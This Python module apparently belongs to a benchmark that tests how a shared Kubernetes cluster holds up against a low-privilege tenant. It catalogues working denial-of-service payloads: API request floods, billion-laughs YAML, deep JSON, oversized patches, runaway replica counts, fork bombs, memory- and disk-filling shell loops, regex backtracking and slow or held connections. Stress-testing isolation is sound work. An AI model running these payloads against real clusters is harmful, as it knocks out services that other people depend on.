"""What a student may do to a cluster that others use, each by name: floods of requests, pods with
programs, and connections that misbehave.

All of it happens in the namespace `student` with the rights of the cast's student.
"""

from __future__ import annotations

import itertools
import json
from collections.abc import Callable
from typing import Any, NamedTuple

NAMESPACE = "student"
CORE = f"/api/v1/namespaces/{NAMESPACE}"
APPS = f"/apis/apps/v1/namespaces/{NAMESPACE}"
BATCH = f"/apis/batch/v1/namespaces/{NAMESPACE}"
CONNECTIONS = 8
HUGE, JSON, YAML = 2**31 - 1, "application/json", "application/yaml"
APPLY, JSON_PATCH = "application/apply-patch+yaml", "application/json-patch+json"
MERGE, STRATEGIC = "application/merge-patch+json", "application/strategic-merge-patch+json"


class Send(NamedTuple):
    """One request."""

    method: str
    path: str
    body: Any = b""
    kind: str = JSON
    headers: tuple[tuple[str, str], ...] = ()

    def encode(self) -> bytes:
        body = self.body if isinstance(self.body, bytes) else json.dumps(self.body).encode()
        lines = [
            f"{self.method} {self.path} HTTP/1.1",
            "Host: bench",
            *map(": ".join, self.headers),
        ]
        if body:
            lines += [f"Content-Type: {self.kind}", f"Content-Length: {len(body)}"]
        return "\r\n".join([*lines, "", ""]).encode() + body


Make = Callable[[int], Send]


class Attack(NamedTuple):
    """`before` is sent once; then `flood(n)` on some connections, again and again, until the time
    is over; `held` is sent on many connections, which then only read, when they do."""

    before: tuple[Send, ...] = ()
    flood: Make | None = None
    held: bytes = b""
    connections: int = CONNECTIONS
    reads: bool = True


def obj(kind: str, name: str, version: str = "v1", **rest: Any) -> dict[str, Any]:
    return {"apiVersion": version, "kind": kind, "metadata": {"name": name}, **rest}


def pod(name: str, *command: str, **spec: Any) -> dict[str, Any]:
    container = {"name": "c", "image": "busybox", "command": list(command) or ["sleep", "1000"]}
    return obj("Pod", name, spec={"containers": [container], **spec})


def create(path: str, body: Any, kind: str = JSON) -> Attack:
    return Attack(flood=lambda n: Send("POST", path, body, kind))


def made(path: str, body: Callable[[int], Any]) -> Attack:
    """Another object each time."""
    return Attack(flood=lambda n: Send("POST", path, body(n)))


def got(path: str, **headers: str) -> Attack:
    more = tuple((name.replace("_", "-"), value) for name, value in headers.items())
    return Attack(flood=lambda n: Send("GET", path, headers=more))


def patched(body: Any, kind: str) -> Attack:
    first = Send("POST", f"{CORE}/configmaps", obj("ConfigMap", "aim", data={"a": "b"}))
    return Attack((first,), lambda n: Send("PATCH", f"{CORE}/configmaps/aim", body, kind))


def scripts(*programs: str, count: int = 10) -> Attack:
    """Pods that run these."""
    bodies = (
        pod(f"p{number}-{n}", "sh", "-c", program)
        for number, program in enumerate(programs)
        for n in range(count)
    )
    return Attack(tuple(Send("POST", f"{CORE}/pods", body) for body in bodies))


def workload(kind: str, name: str, **spec: Any) -> dict[str, Any]:
    labels = {"app": name}
    template = {"metadata": {"labels": labels}, "spec": pod("x")["spec"]}
    body = {"selector": {"matchLabels": labels}, "template": template, **spec}
    return obj(kind, name, "apps/v1", spec=body)


def job(name: str, **spec: Any) -> dict[str, Any]:
    template = {"spec": {**pod("x", "true")["spec"], "restartPolicy": "Never"}}
    return obj("Job", name, "batch/v1", spec={"template": template, **spec})


def cron(number: int) -> dict[str, Any]:
    spec = {
        "schedule": "* * * * *",
        "startingDeadlineSeconds": HUGE,
        "jobTemplate": {"spec": job("x")["spec"]},
    }
    return obj("CronJob", f"c{number}", "batch/v1", spec=spec)


def upgraded(path: str, more: bytes = b"") -> bytes:
    head = [
        f"GET {path} HTTP/1.1", "Host: bench", "Connection: Upgrade", "Upgrade: websocket",
        "Sec-WebSocket-Version: 13", "Sec-WebSocket-Key: AAAAAAAAAAAAAAAAAAAAAA==",
        "Sec-WebSocket-Protocol: v5.channel.k8s.io", "", "",
    ]  # fmt: skip
    return "\r\n".join(head).encode() + more


def inside(path: str, program: str = "sleep 1000", **rest: Any) -> Attack:
    """Connections into a running pod."""
    first = Send("POST", f"{CORE}/pods", pod("aim", "sh", "-c", program))
    return Attack((first,), held=upgraded(f"{CORE}/pods/aim/{path}"), **rest)


def nested(depth: int) -> bytes:
    return b'{"apiVersion":"v1","kind":"ConfigMap","x":' + b"[" * depth + b"]" * depth + b"}"


def _laughs() -> bytes:
    lines = ['a: &a ["lol","lol","lol","lol","lol","lol","lol","lol","lol"]']
    lines += [f"{b}: &{b} [{','.join(9 * [f'*{a}'])}]" for a, b in itertools.pairwise("abcdefghi")]
    return "\n".join(["apiVersion: v1", "kind: ConfigMap", *lines, ""]).encode()


def _affine(number: int) -> dict[str, Any]:
    term = {
        "labelSelector": {"matchExpressions": [{"key": "a", "operator": "Exists"}]},
        "topologyKey": "kubernetes.io/hostname",
    }
    near = [{"weight": 1, "podAffinityTerm": term}] * 100
    anti = {"preferredDuringSchedulingIgnoredDuringExecution": near}
    body = pod(f"a{number}", affinity={"podAntiAffinity": anti, "podAffinity": anti})
    body["metadata"]["labels"] = {"a": str(number % 50)}
    return body


def _spread(number: int) -> dict[str, Any]:
    keys = [f"key-{key}" for key in range(30)]
    rules = [
        {"maxSkew": 1, "topologyKey": key, "whenUnsatisfiable": "ScheduleAnyway",
         "labelSelector": {"matchExpressions": [{"key": "a", "operator": "Exists"}]}}
        for key in keys
    ]  # fmt: skip
    return pod(f"s{number}", topologySpreadConstraints=rules)


def _probed(number: int) -> dict[str, Any]:
    body = pod(f"w{number}")
    probe = {"exec": {"command": ["sh", "-c", "seq 1 20000 | sort | wc"]}, "periodSeconds": 1}
    body["spec"]["containers"][0] |= {"livenessProbe": probe, "readinessProbe": probe}
    return body


def _with(number: int, **container: Any) -> dict[str, Any]:
    body = pod(f"v{number}")
    body["spec"]["containers"][0] |= container
    return body


def _scaler(number: int) -> dict[str, Any]:
    target = {"apiVersion": "apps/v1", "kind": "Deployment", "name": "x"}
    spec = {"scaleTargetRef": target, "maxReplicas": 100}
    return obj("HorizontalPodAutoscaler", f"h{number}", "autoscaling/v2", spec=spec)


def _event(number: int) -> dict[str, Any]:
    about = {"kind": "Pod", "namespace": NAMESPACE, "name": "x"}
    return obj("Event", f"e{number}", involvedObject=about, reason="x", message="m" * 900)


def _circle(number: int) -> dict[str, Any]:
    body = obj("ConfigMap", f"o{number}")
    owner = {"apiVersion": "v1", "kind": "ConfigMap", "name": "o0", "uid": f"u{number}"}
    body["metadata"]["ownerReferences"] = [{**owner, "uid": f"{n}"} for n in range(50)]
    return body


def _applied(number: int) -> Send:
    body = obj("ConfigMap", "managed", data={f"k{number % 3000}": "v"})
    path = f"{CORE}/configmaps/managed?fieldManager=m{number}&force=true"
    return Send("PATCH", path, body, APPLY)


def _rules(number: int) -> dict[str, Any]:
    path = {"path": "/", "pathType": "Prefix",
            "backend": {"service": {"name": "x", "port": {"number": 80}}}}  # fmt: skip
    rules = [{"host": f"h{n}.example.com", "http": {"paths": [path] * 5}} for n in range(2000)]
    return obj("Ingress", f"i{number}", "networking.k8s.io/v1", spec={"rules": rules})


def _policy(number: int) -> dict[str, Any]:
    block = [{"ipBlock": {"cidr": f"10.{n // 256}.{n % 256}.0/24"}} for n in range(5000)]
    spec = {"podSelector": {}, "ingress": [{"from": block}]}
    return obj("NetworkPolicy", f"n{number}", "networking.k8s.io/v1", spec=spec)


def _slice(number: int) -> dict[str, Any]:
    points = [{"addresses": [f"10.9.{n // 250}.{n % 250}"]} for n in range(1000)]
    body = obj("EndpointSlice", f"l{number}", "discovery.k8s.io/v1")
    return {**body, "addressType": "IPv4", "endpoints": points}


def _copies() -> list[dict[str, str]]:
    ops = [{"op": "add", "path": "/data/x", "value": "x" * 100}]
    return [*ops, *({"op": "copy", "from": "/data", "path": f"/data/d{n}"} for n in range(60))]


SERVICE = {"ports": [{"port": 80, "nodePort": 0}], "type": "NodePort", "selector": {"a": "b"}}
WIDE = {**obj("ConfigMap", "wide"), "data": {f"k{n}": "" for n in range(200_000)}}
BIG = {**obj("ConfigMap", "big"), "data": {"x": "x" * 900_000}}
CLAIM = {"accessModes": ["ReadWriteOnce"], "resources": {"requests": {"storage": "1Gi"}}}
TERMS = ",".join(f"k{n}!=v" for n in range(10_000))
MANY = tuple(
    Send("POST", f"{CORE}/configmaps", obj("ConfigMap", f"m{n}", data={"x": "x" * 3000}))
    for n in range(1000)
)
REVIEWS = "/apis/authorization.k8s.io/v1"
REVIEW = {"spec": {"resourceAttributes": {"verb": "get", "resource": "pods"}}}
PATTERN = "a" * 40 + "!"
RUNNING = (Send("POST", f"{CORE}/pods", pod("aim", "sh", "-c", "yes | head -c 10000000; sleep 9")),)
LISTED = f"{CORE}/configmaps"
WATCH = f"GET {LISTED}?watch=1 HTTP/1.1\r\nHost: bench\r\n\r\n".encode()
TABLE = "application/json;as=Table;v=v1;g=meta.k8s.io"

ATTACKS: dict[str, Attack] = {
    # reads
    "gets of one name": got(f"{CORE}/configmaps/kube-root-ca.crt"),
    "unpaged lists": got(LISTED)._replace(before=MANY),
    "lists as protobuf": got(LISTED, Accept="application/vnd.kubernetes.protobuf"),
    "lists as tables": got(f"{CORE}/pods", Accept=TABLE),
    "lists with 10,000 terms": got(f"{LISTED}?labelSelector={TERMS}"),
    "lists with 400 terms": got(f"{LISTED}?labelSelector={TERMS[:4000]}")._replace(before=MANY),
    "lists with field selectors": got(f"{LISTED}?fieldSelector=metadata.name!%3Dx"),
    "discovery and OpenAPI": got("/openapi/v2"),
    "paths that are not there": got(f"{CORE}/" + "x/" * 1500),
    "reviews of access": create(f"{REVIEWS}/selfsubjectaccessreviews", REVIEW),
    "reviews of rules": create(
        f"{REVIEWS}/selfsubjectrulesreviews", {"spec": {"namespace": NAMESPACE}}
    ),
    "tokens": create(f"{CORE}/serviceaccounts/default/token", {"spec": {}}),
    "tokens that are wrong": got(LISTED, Authorization="Bearer " + "e30." * 2000),
    # bodies
    "200,000 keys": create(LISTED, WIDE),
    "deep JSON": create(LISTED, nested(100_000)),
    "deep YAML": create(LISTED, b"kind: ConfigMap\nx: " + b"[" * 50_000, YAML),
    "aliases of YAML that multiply": create(LISTED, _laughs(), YAML),
    "2 MB of empty items": create(LISTED, b"- {}\n" * 400_000, YAML),
    "big objects": Attack(
        flood=lambda n: Send("POST", LISTED, {**BIG, "metadata": {"name": f"b{n}"}})
    ),
    "dry runs": create(f"{CORE}/pods?dryRun=All", pod("dry")),
    "patches of 10,000 operations": patched(
        [{"op": "test", "path": "/data/a", "value": "b"}] * 10_000, JSON_PATCH
    ),
    "patches whose copies double": patched(_copies(), JSON_PATCH),
    "deep merge patches": patched(b'{"a":' * 20_000 + b"1" + b"}" * 20_000, MERGE),
    "wide merge patches": patched({"data": {f"k{n}": "" for n in range(115_000)}}, MERGE),
    "directives of strategic patches": patched(
        {"metadata": {"$deleteFromPrimitiveList/finalizers": [f"f{n}" for n in range(50_000)]}},
        STRATEGIC,
    ),
    "managers of fields": Attack(flood=_applied),
    # objects
    "config maps": made(LISTED, lambda n: obj("ConfigMap", f"f{n}")),
    "secrets": made(f"{CORE}/secrets", lambda n: obj("Secret", f"s{n}", data={"a": "eA=="})),
    "events": made(f"{CORE}/events", _event),
    "leases": made(
        f"/apis/coordination.k8s.io/v1/namespaces/{NAMESPACE}/leases",
        lambda n: obj("Lease", f"l{n}", "coordination.k8s.io/v1"),
    ),
    "services": made(f"{CORE}/services", lambda n: obj("Service", f"s{n}", spec=SERVICE)),
    "ingresses": made(f"/apis/networking.k8s.io/v1/namespaces/{NAMESPACE}/ingresses", _rules),
    "network policies": made(
        f"/apis/networking.k8s.io/v1/namespaces/{NAMESPACE}/networkpolicies", _policy
    ),
    "endpoint slices": made(
        f"/apis/discovery.k8s.io/v1/namespaces/{NAMESPACE}/endpointslices", _slice
    ),
    "claims": made(
        f"{CORE}/persistentvolumeclaims",
        lambda n: obj("PersistentVolumeClaim", f"c{n}", spec=CLAIM),
    ),
    "owners in circles": made(LISTED, _circle),
    "finalizers": Attack(
        flood=lambda n: (
            Send("DELETE", f"{LISTED}/fin")
            if n % 2
            else Send(
                "POST",
                LISTED,
                {"metadata": {"name": "fin", "finalizers": [f"a.b/{k}" for k in range(2000)]}},
            )
        )
    ),
    "deletes of collections": Attack(flood=lambda n: Send("DELETE", LISTED), before=MANY),
    # workloads
    "stateful sets": made(
        f"{APPS}/statefulsets",
        lambda n: workload("StatefulSet", f"s{n}", replicas=HUGE, serviceName="x"),
    ),
    "jobs with indexes": made(
        f"{BATCH}/jobs",
        lambda n: job(f"j{n}", completions=HUGE, parallelism=10, completionMode="Indexed"),
    ),
    "deployments": made(
        f"{APPS}/deployments", lambda n: workload("Deployment", f"d{n}", replicas=HUGE)
    ),
    "daemon sets": made(f"{APPS}/daemonsets", lambda n: workload("DaemonSet", f"d{n}")),
    "cron jobs of all minutes": made(f"{BATCH}/cronjobs", cron),
    "scaling to and fro": Attack(
        (Send("POST", f"{APPS}/deployments", workload("Deployment", "d")),),
        lambda n: Send(
            "PATCH", f"{APPS}/deployments/d/scale", {"spec": {"replicas": n % 2 * 100}}, MERGE
        ),
        connections=1,
    ),
    "autoscalers": made(
        f"/apis/autoscaling/v2/namespaces/{NAMESPACE}/horizontalpodautoscalers", _scaler
    ),
    "pods": made(f"{CORE}/pods", lambda n: pod(f"p{n}")),
    "pods that crash": made(f"{CORE}/pods", lambda n: pod(f"p{n}", "false")),
    "pods of 50 containers": made(
        f"{CORE}/pods",
        lambda n: (
            pod(f"p{n}")
            | {"spec": {"containers": [{"name": f"c{k}", "image": "nginx"} for k in range(50)]}}
        ),
    ),
    "pods of 2,000 variables": made(
        f"{CORE}/pods",
        lambda n: _with(n, env=[{"name": f"A{k}", "value": f"$(A{k - 1})x"} for k in range(2000)]),
    ),
    "pods of many terms": made(f"{CORE}/pods", _affine),
    "pods that spread": made(f"{CORE}/pods", _spread),
    "costly probes": made(f"{CORE}/pods", _probed),
    # programs
    "patterns of grep": scripts(f"while :; do echo '{PATTERN}' | grep -E '(a|aa)*b'; done"),
    "patterns of sed": scripts(f"echo '{PATTERN}' | sed -E 's/(a|aa)*b/x/g'"),
    "a loop of awk": scripts("awk 'BEGIN { while (1) x = x \"aaaaaaaaaaaaaaaa\" }'"),
    "200,000 semicolons": scripts("sed \"$(yes ';' | head -n 200000 | tr -d '\\n')\" /etc/passwd"),
    "sed on a large file": scripts(
        "seq 1 100000 >/tmp/x; while :; do sed -e 's/1/2/g;s/2/3/g;s/3/4/g' /tmp/x >/tmp/y; done"
    ),
    "a fork bomb": scripts(":() { : | : & }; :", "f() { f & f & }; f"),
    "output without end": scripts("yes", "while :; do echo x; done"),
    "full memory": scripts("x=a; while :; do x=$x$x; done", "yes | sort"),
    "full disks": scripts("while :; do cat /etc/* /tmp/x >>/tmp/x; done", "yes >/tmp/x"),
    "numbers without end": scripts("seq 1 1000000000", "seq 1 10000000 | sort -n | uniq -c"),
    "names without end": scripts("while :; do nslookup kubernetes.default; done"),
    "requests between pods": scripts("while :; do wget -qO- http://10.96.0.1:443/; done"),
    "searches": scripts("while :; do find / -name x; done", "while :; do ls -lR /; done"),
    "arithmetic": scripts("x=9; while :; do x=$((x * x % 1000000007)); done"),
    "patterns of case": scripts(
        f"x=$(yes a | head -n 5000 | tr -d '\\n'); case $x in {'*a' * 30}b) ;; esac"
    ),
    # connections
    "commands in a pod": inside("exec?command=yes&stdout=1"),
    "shells in a pod": inside("exec?command=sh&stdin=1&stdout=1&tty=1"),
    "attached": inside("attach?stdout=1", "yes"),
    "forwarded ports": inside("portforward?ports=80"),
    "followed logs": Attack(
        RUNNING, held=f"GET {CORE}/pods/aim/log?follow=1 HTTP/1.1\r\nHost: bench\r\n\r\n".encode()
    ),
    "logs": got(f"{CORE}/pods/aim/log")._replace(before=RUNNING),
    "watches": Attack(held=WATCH, flood=lambda n: Send("POST", LISTED, obj("ConfigMap", f"f{n}"))),
    "watches that nobody reads": Attack(
        held=WATCH,
        flood=lambda n: Send("POST", LISTED, {**BIG, "metadata": {"name": f"b{n}"}}),
        reads=False,
        connections=1,
    ),
    "watches of much that nobody reads": Attack(
        tuple(Send("POST", LISTED, {**BIG, "metadata": {"name": f"b{n}"}}) for n in range(40)),
        held=WATCH,
        reads=False,
    ),
    "watches that end at once": got(f"{LISTED}?watch=1&timeoutSeconds=1")._replace(connections=100),
    "slow bodies": Attack(held=b"POST / HTTP/1.1\r\nHost: bench\r\nContent-Length: 999\r\n\r\n{"),
    "slow heads": Attack(held=b"GET / HTTP/1.1\r\nHost: be"),
    "huge heads": got(LISTED, X_Large="x" * 60_000),
    "pipelined requests": Attack(
        held=f"GET {LISTED} HTTP/1.1\r\nHost: bench\r\n\r\n".encode() * 500
    ),
    "half a frame": inside("exec?command=sh&stdin=1", connections=1)._replace(
        held=upgraded(f"{CORE}/pods/aim/exec?command=cat&stdin=1", more=b"\x82\xff" + b"\x7f" * 8)
    ),
    "HTTP/2": Attack(held=b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + b"\x00\x00\x00\x04\x00" * 1000),
}
